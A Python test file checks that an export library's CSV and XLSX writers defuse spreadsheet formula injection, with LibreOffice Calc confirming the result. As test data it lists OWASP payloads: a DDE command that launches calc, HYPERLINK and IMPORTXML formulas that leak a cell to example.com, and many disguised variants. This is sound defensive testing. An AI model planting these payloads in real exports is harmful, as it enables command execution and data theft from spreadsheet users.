"""Formula injection judged by a real spreadsheet: exportd's writers make CSV (comma;
`;` with de_DE numbers) and XLSX (both writers) holding the OWASP CSV-injection
payloads and their disguises (every C0 and C1 control, no-break and other spaces, a
byte-order mark, full-width signs, DDE) as values and as renamed headers, and
LibreOffice Calc, told to run formulas, must find none in them.

The same payloads written raw, through the same import, do become formulas: the
check can see one (and "\\x00=SUM(40;2)" was one in exportd's files before the rule
looked past leading controls)."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

import pyarrow as pa
import pyarrow.csv as pacsv
import pytest
import xlsxwriter

from exportd.formats import OutputColumn, WriteOptions, open_writer
from exportd.formats.xlsx_fast import FastXlsxWriter
from tests.support.libreoffice import (
    Cell,
    csv_filter,
    formulas_in,
    read_first_sheet,
    require_libreoffice,
    to_flat_ods,
)

DDE = "cmd|' /C calc'!A0"
OWASP = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    f"={DDE}",
    f"@SUM(1+1)*{DDE}",
    f"+{DDE}",
    f"-2+3+{DDE}",
    f"=2+5+{DDE}",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://example.com/?leak="&A1;"Click")',
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    '=WEBSERVICE("http://example.com/")',
    '=IMPORTXML(CONCAT("http://example.com/?v=";A1);"//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
]
NUL = ["\x00=SUM(40;2)", "\x00\x00=1+1", "\x00@SUM(1+1)", "\x00+1+1", "\x00-1+1", f"\x00={DDE}"]
CONTROLS = [chr(c) + "=1+1" for c in (*range(0x20), *range(0x7F, 0xA0))]
BLANKS = [
    " =1+1",
    "   =1+1",
    " \t =1+1",
    "\u00a0=1+1",  # no-break space
    "\ufeff=1+1",  # byte-order mark
    "\u2000=1+1",
    "\u2007=1+1",  # figure space
    "\u200b=1+1",  # zero-width space
    "\u202f=1+1",  # narrow no-break space
    "\u2060=1+1",  # word joiner
    "\u3000=1+1",  # ideographic space
    "\x00 \u00a0\ufeff=1+1",
]
FULL_WIDTH = [
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1+1)",
    " \uff1d1+1",
    "\x00\uff1d1+1",
]
RISKY = list(dict.fromkeys([*OWASP, *NUL, *CONTROLS, *BLANKS, *FULL_WIDTH]))
# Not formulas as they stand: written unchanged, and still not formulas in Calc.
HARMLESS = ["x\x00=1+1", "x\n=1+1", "1+1", "a=b", "\u00a35", "'=1+1", "\x00", " "]
VALUES = [*RISKY, *HARMLESS]
PNL = -1234.5

SCHEMA = pa.schema(
    [
        ("id", pa.int64()),
        ("pnl", pa.float64()),
        ("text", pa.string()),
        *((f"h{i}", pa.string()) for i in range(len(RISKY))),
    ]
)
BATCH = pa.RecordBatch.from_pydict(
    {
        "id": list(range(len(VALUES))),
        "pnl": [PNL] * len(VALUES),
        "text": VALUES,
        **{f"h{i}": ["x"] * len(VALUES) for i in range(len(RISKY))},
    },
    SCHEMA,
)
FIXED = [OutputColumn("id", "id"), OutputColumn("pnl", "P&L"), OutputColumn("text", "text")]


def renamed(headers: list[str]) -> list[OutputColumn]:
    """The fixed columns, then a column renamed to each payload."""
    return FIXED + [OutputColumn(f"h{RISKY.index(h)}", h) for h in headers]


@dataclass(frozen=True, slots=True)
class Export:
    fmt: str
    options: WriteOptions | None = None
    rows_expected: int | None = None  # counted: the fast XLSX writer
    headers: tuple[str, ...] = tuple(RISKY)


EXPORTS = {
    "exportd_comma.csv": Export("csv", WriteOptions()),
    "exportd_de.csv": Export("csv", WriteOptions(delimiter=";", locale="de_DE")),
    "exportd_xlsxwriter.xlsx": Export("xlsx"),
    # The fast writer takes no header holding a NUL (open_xlsx hands those to
    # XlsxWriter): its file has the others.
    "exportd_fast.xlsx": Export(
        "xlsx", rows_expected=len(VALUES), headers=tuple(h for h in RISKY if "\0" not in h)
    ),
}


def export(path: Path, spec: Export) -> object:
    columns = renamed(list(spec.headers))
    schema = pa.schema([SCHEMA.field(c.name) for c in columns])
    with path.open("wb") as sink:
        writer = open_writer(
            spec.fmt, sink, columns, schema, spec.options, rows_expected=spec.rows_expected
        )
        writer.write(BATCH.select([c.name for c in columns]))
        writer.close()
    return writer


def raw_csv(path: Path, delimiter: str) -> None:
    """The payloads written as exportd writes CSV, without the neutralising."""
    table = pa.Table.from_batches([BATCH]).rename_columns([c.label for c in renamed(RISKY)])
    pacsv.write_csv(table, path, pacsv.WriteOptions(delimiter=delimiter))


def raw_xlsx(path: Path) -> None:
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet().write_formula(0, 0, "=1+1")
    book.close()


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Every file, saved by Calc as flat ODS: three runs, one per import filter."""
    program = require_libreoffice()
    folder = tmp_path_factory.mktemp("libreoffice")
    files, out = folder / "files", folder / "fods"
    files.mkdir()
    for name, spec in EXPORTS.items():
        writer = export(files / name, spec)
        assert isinstance(writer, FastXlsxWriter) == (name == "exportd_fast.xlsx")
    raw_csv(files / "raw.csv", ",")
    raw_csv(files / "raw_de.csv", ";")
    raw_xlsx(files / "raw_formula.xlsx")
    profile = folder / "profile"  # its own: parallel runs never share one
    comma = csv_filter(",", 1033, trim_spaces=True)
    to_flat_ods(program, [files / "exportd_comma.csv", files / "raw.csv"], out, profile, comma)
    semicolon = csv_filter(";", 1031, trim_spaces=False)
    to_flat_ods(program, [files / "exportd_de.csv", files / "raw_de.csv"], out, profile, semicolon)
    to_flat_ods(
        program,
        [
            files / "exportd_xlsxwriter.xlsx",
            files / "exportd_fast.xlsx",
            files / "raw_formula.xlsx",
        ],
        out,
        profile,
    )
    return {path.stem: path for path in out.glob("*.fods")}


def shown_as_text(cell: Cell, written: str) -> None:
    assert cell.is_plain_text, (written, cell)
    assert cell.text.startswith("'"), (written, cell)


@pytest.mark.parametrize("name", list(EXPORTS))
def test_calc_finds_no_formula_in_an_export(opened: dict[str, Path], name: str) -> None:
    path = opened[Path(name).stem]
    assert formulas_in(path) == []
    header, *rows = read_first_sheet(path)
    for label, cell in zip(EXPORTS[name].headers, header[len(FIXED) :], strict=True):
        shown_as_text(cell, label)
    assert len(rows) == len(VALUES)
    for number, (value, row) in enumerate(zip(VALUES, rows, strict=True)):
        # Numbers stay numbers, in the de_DE file too ("-1234,5" read back as one).
        assert (row[0].value_type, row[0].value) == ("float", str(number))
        assert (row[1].value_type, float(row[1].value or "nan")) == ("float", PNL)
        if value in RISKY:
            shown_as_text(row[2], value)
        elif value.strip("\0 "):  # Calc keeps no cell for a lone NUL
            assert row[2].is_plain_text, (value, row[2])
            assert row[2].text.startswith("'") == value.startswith("'"), (value, row[2])


def test_the_same_payloads_written_raw_become_formulas(opened: dict[str, Path]) -> None:
    for name in ("raw", "raw_de"):
        formulas = formulas_in(opened[name])
        assert "of:=1+1" in formulas
        assert "of:=SUM(40;2)" in formulas  # the NUL was dropped, the formula ran
    assert formulas_in(opened["raw_formula"]) == ["of:=1+1"]  # and in an XLSX
